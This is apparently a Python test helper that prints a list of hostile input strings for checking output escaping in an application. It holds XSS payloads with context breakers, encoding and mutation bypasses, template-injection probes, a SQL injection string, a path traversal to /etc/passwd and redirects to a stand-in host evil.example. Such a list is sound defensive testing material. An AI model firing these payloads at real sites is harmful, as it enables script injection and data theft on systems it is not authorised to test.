"""Strings that become script where somebody forgot to escape: for captions, names, queries and answers.

python tests/hostile_strings.py | less
"""

from __future__ import annotations

BREAKS = ("", '"', "'", ">", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "]]>", "\\", "`")
"""What ends the place that a string may stand in."""
ACTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    " onfocus=alert(1) autofocus tabindex=1 ",
    " onmouseover=alert(1) style=position:fixed;inset:0 ",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
)
"""What would then be done."""
OTHERS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x.png",
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[constructor.constructor('alert(1)')()]]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<template><script>alert(1)</script></template>",
    "<form action=//evil.example><button>x</button></form>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example>",
    "<marquee onstart=alert(1)>",
    "<x contenteditable onblur=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'>",
    "[1](javascript:alert(1))",
    "[1]<script>alert(1)</script>[2]",
    "![x](//evil.example/track.png)",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "'-alert(1)-'",
    "\\'-alert(1)//",
    "';alert(1)//",
    "x' OR 1=1 --",
    "../../../../etc/passwd",
    "undo=1&k=999&all=1#main",
    "__proto__",
    "constructor",
    "<plaintext>",
    "<frameset onload=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
)
STRINGS = tuple(dict.fromkeys([*(mark + act for act in ACTS for mark in BREAKS), *OTHERS]))

if __name__ == "__main__":
    print(*map(ascii, STRINGS), sep="\n")
